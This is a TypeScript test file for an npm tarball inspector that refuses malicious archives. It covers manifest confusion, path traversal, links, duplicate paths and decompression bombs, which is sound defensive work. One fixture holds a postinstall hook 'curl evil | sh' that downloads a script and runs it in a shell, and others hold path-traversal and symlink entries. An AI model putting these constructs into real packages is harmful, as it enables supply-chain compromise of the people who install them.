import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { describe, it } from 'node:test';
import { DEFAULT_NPM_TARBALL_LIMITS, inspectNpmTarball } from '../../src/archive/npm-tarball.js';
import { AppError } from '../../src/domain/errors.js';
import { makeTar, makeTgz } from '../helpers/npm.js';

const manifest = { path: 'package/package.json', content: JSON.stringify({ name: 'x', version: '1.0.0' }) };

async function refused(bytes: Buffer, pattern: RegExp, limits = DEFAULT_NPM_TARBALL_LIMITS): Promise<void> {
  await assert.rejects(inspectNpmTarball(bytes, limits), (err: unknown) => {
    assert.ok(err instanceof AppError, String(err));
    assert.equal(err.status, 400);
    assert.match(String(err.body.error), pattern);
    return true;
  });
}

describe('npm tarball inspection', () => {
  it('reads package/package.json and counts files like npm (dist.fileCount, dist.unpackedSize)', async () => {
    const r = await inspectNpmTarball(
      makeTgz([{ path: 'package/', type: '5' }, manifest, { path: 'package/lib/a.js', content: 'aaaa' }, { path: 'package/binding.gyp', content: '{}' }]),
    );
    assert.deepEqual(r.manifest, { name: 'x', version: '1.0.0' });
    assert.equal(r.fileCount, 3);
    assert.equal(r.unpackedSize, manifest.content.length + 4 + 2);
    assert.equal(r.hasGypFile, true);
    assert.equal(r.hasServerJs, false);
  });
  it('accepts a BOM, and any single top-level directory name (npm strips it, whatever it is)', async () => {
    const r = await inspectNpmTarball(makeTgz([{ path: 'package/package.json', content: `\uFEFF${manifest.content}` }, { path: 'package/server.js', content: '' }]));
    assert.equal(r.manifest.name, 'x');
    assert.equal(r.hasServerJs, true);
    const other = await inspectNpmTarball(makeTgz([{ path: 'node-x/', type: '5' }, { path: 'node-x/package.json', content: manifest.content }, { path: 'node-x/lib/', type: '5' }, { path: 'node-x/lib/', type: '5' }, { path: 'node-x/lib/a.js', content: '' }]));
    assert.equal(other.manifest.name, 'x');
    assert.deepEqual(other.files, ['package.json', 'lib/a.js']);
  });
  it('reports the files, npm-shrinkwrap.json and *.gyp at the package root only', async () => {
    const r = await inspectNpmTarball(makeTgz([manifest, { path: 'package/npm-shrinkwrap.json', content: '{}' }, { path: 'package/deps/x.gyp', content: '{}' }]));
    assert.equal(r.hasShrinkwrap, true);
    assert.equal(r.hasGypFile, false);
    assert.deepEqual(r.files, ['package.json', 'npm-shrinkwrap.json', 'deps/x.gyp']);
  });
  it('refuses a second top-level directory: its package.json is the one npm would install (manifest confusion)', async () => {
    const hidden = { path: 'zzz/package.json', content: JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'curl evil | sh' } }) };
    await refused(makeTgz([manifest, hidden]), /more than one top-level directory \("package\/" and "zzz\/"\)/);
    await refused(makeTgz([hidden, manifest]), /more than one top-level directory/);
    // Not only manifests: any file in another directory lands in the package too.
    await refused(makeTgz([manifest, { path: 'other/index.js', content: 'evil()' }]), /more than one top-level directory/);
    await refused(makeTgz([manifest, { path: 'Package/index.js', content: '' }]), /more than one top-level directory/);
    // Windows separators: `package\\x` is `package/x` there, `zzz\\package.json` is another directory.
    await refused(makeTgz([manifest, { path: 'zzz\\package.json', content: '{}' }]), /more than one top-level directory/);
  });
  it('refuses entries at the root and paths whose first component is not a plain name', async () => {
    await refused(makeTgz([manifest, { path: 'package.json', content: '{}' }]), /at the root of the archive/);
    await refused(makeTgz([{ path: 'package.json', content: manifest.content }]), /at the root of the archive/);
    // tar strips `.` as the first component: `./package/package.json` installs as `package/package.json`, not the manifest.
    await refused(makeTgz([{ path: './package/package.json', content: manifest.content }]), /not inside a named top-level directory/);
    await refused(makeTgz([{ path: './package.json', content: manifest.content }]), /not inside a named top-level directory/);
    await refused(makeTgz([{ path: './', type: '5' }, manifest]), /not inside a named top-level directory/);
  });
  it('refuses two entries landing on one path once stripped, however the path is spelled', async () => {
    const twin = (path: string) => ({ path, content: JSON.stringify({ name: 'x', version: '1.0.0', dependencies: { evil: '*' } }) });
    await refused(makeTgz([manifest, twin('package//package.json')]), /empty or "\." path segment/);
    await refused(makeTgz([manifest, twin('package/./package.json')]), /empty or "\." path segment/);
    await refused(makeTgz([manifest, twin('package/lib/../package.json')]), /outside the package directory/);
    await refused(makeTgz([manifest, twin('package/PACKAGE.JSON')]), /package\.json appears more than once/);
    await refused(makeTgz([manifest, twin('package/package.json.')]), /package\.json appears more than once/);
    await refused(makeTgz([manifest, twin('package\\package.json')]), /package\.json appears more than once/);
    await refused(makeTgz([manifest, { path: 'package/lib/caf\u00e9.js', content: '' }, { path: 'package/lib/cafe\u0301.js', content: '' }]), /land on the same path/);
    await refused(makeTgz([manifest, { path: 'package/a.js', content: '1' }, { path: 'package/a.js', content: '2' }]), /land on the same path/);
    // A file where a directory is, either way round.
    await refused(makeTgz([manifest, { path: 'package/lib', content: '' }, { path: 'package/lib/a.js', content: '' }]), /land on the same path/);
    await refused(makeTgz([manifest, { path: 'package/lib/a.js', content: '' }, { path: 'package/LIB', content: '' }]), /land on the same path/);
    await refused(makeTgz([manifest, { path: 'package/lib/', type: '5' }, { path: 'package/lib', content: '' }]), /land on the same path/);
    // After stripping, `C:/package.json` is an absolute Windows path that tar reduces to `package.json`.
    await refused(makeTgz([manifest, twin('package/C:/package.json')]), /absolute path/);
    // Links could alias the manifest; they are refused whatever they point at.
    await refused(makeTgz([{ path: 'package/package.json', type: '1', linkpath: 'package/x.json' }, { path: 'package/x.json', content: manifest.content }]), /hard link/);
    await refused(makeTgz([{ path: 'package/package.json', type: '2', linkpath: 'x.json' }, { path: 'package/x.json', content: manifest.content }]), /symbolic link/);
  });
  it('bounds entry paths', async () => {
    await refused(makeTgz([manifest, { path: `package/${'a'.repeat(150)}`, content: '' }]), /longer than 100 characters/, { ...DEFAULT_NPM_TARBALL_LIMITS, maxPathLength: 100 });
    await refused(makeTgz([manifest, { path: 'package/abcdefghij', content: '' }, { path: 'package/abcdefghik', content: '' }]), /total more than 40 characters/, {
      ...DEFAULT_NPM_TARBALL_LIMITS,
      maxTotalPathLength: 40,
    });
  });
  it('refuses anything that is not gzip, or is gzip twice', async () => {
    await refused(makeTar([manifest]), /not a gzip-compressed tarball/);
    await refused(Buffer.alloc(0), /not a gzip-compressed tarball/);
    await refused(gzipSync(makeTgz([manifest])), /compressed twice/);
  });
  it('refuses truncated and corrupt data', async () => {
    const tgz = makeTgz([manifest, { path: 'package/r.bin', content: randomBytes(100_000) }]);
    await refused(tgz.subarray(0, tgz.length - 5000), /truncated or corrupt/);
    const corrupt = Buffer.from(tgz);
    corrupt[Math.floor(corrupt.length / 2)]! ^= 0xff;
    await refused(corrupt, /truncated or corrupt|not a valid tar archive/);
    await refused(gzipSync(Buffer.from('plain text, not tar')), /not a valid tar archive/);
    // A header whose checksum is wrong.
    const tar = makeTar([manifest]);
    tar[0] = 'q'.charCodeAt(0);
    await refused(gzipSync(tar), /not a valid tar archive/);
  });
  it('stops a decompression bomb by ratio and by absolute size, early', async () => {
    const bomb = makeTgz([manifest, { path: 'package/z', content: Buffer.alloc(64 * 1024 * 1024) }]);
    const started = Date.now();
    await refused(bomb, /decompression bomb/);
    assert.ok(Date.now() - started < 5000);
    const incompressible = makeTgz([manifest, { path: 'package/r', content: randomBytes(300_000) }]);
    await refused(incompressible, /unpacks to more than 200000 bytes/, { ...DEFAULT_NPM_TARBALL_LIMITS, maxUnpackedBytes: 200_000 });
    // Small and highly compressible is harmless: under the floor the ratio is not checked.
    await inspectNpmTarball(makeTgz([manifest, { path: 'package/z', content: Buffer.alloc(1024 * 1024) }]));
  });
  it('refuses escaping paths, absolute paths, links, devices and too many entries', async () => {
    await refused(makeTgz([manifest, { path: 'package/../../x', content: '' }]), /outside the package directory/);
    await refused(makeTgz([manifest, { path: 'package\\..\\..\\x', content: '' }]), /outside the package directory/);
    await refused(makeTgz([manifest, { path: '/abs', content: '' }]), /absolute path/);
    await refused(makeTgz([manifest, { path: 'C:/Windows/x', content: '' }]), /absolute path/);
    await refused(makeTgz([manifest, { path: 'package/s', type: '2', linkpath: '../../etc' }]), /symbolic link/);
    await refused(makeTgz([manifest, { path: 'package/h', type: '1', linkpath: 'package/package.json' }]), /hard link/);
    await refused(makeTgz([manifest, { path: 'package/c', type: '3' }]), /unsupported type/);
    await refused(makeTgz([manifest, { path: 'package/a', content: '' }, { path: 'package/b', content: '' }]), /more than 2 entries/, { ...DEFAULT_NPM_TARBALL_LIMITS, maxEntries: 2 });
  });
  it('requires exactly one <top>/package.json of bounded size that is a JSON object', async () => {
    await refused(makeTgz([{ path: 'package/index.js', content: '' }]), /package\.json not found/);
    await refused(makeTgz([{ path: 'pkg/lib/package.json', content: '{}' }]), /package\.json not found: the tarball must contain pkg\/package\.json/);
    await refused(makeTgz([{ path: 'package/package.json', content: '[1]' }]), /not a JSON object/);
    await refused(makeTgz([{ path: 'package/package.json', content: 'nope' }]), /not valid JSON/);
    await refused(makeTgz([manifest, manifest]), /appears more than once/);
    await refused(makeTgz([{ path: 'package/package.json', content: `{"a":"${'x'.repeat(2000)}"}` }]), /package\.json file too large: 2008 bytes \(the limit is 1000\)/, {
      ...DEFAULT_NPM_TARBALL_LIMITS,
      maxPackageJsonBytes: 1000,
    });
  });
});
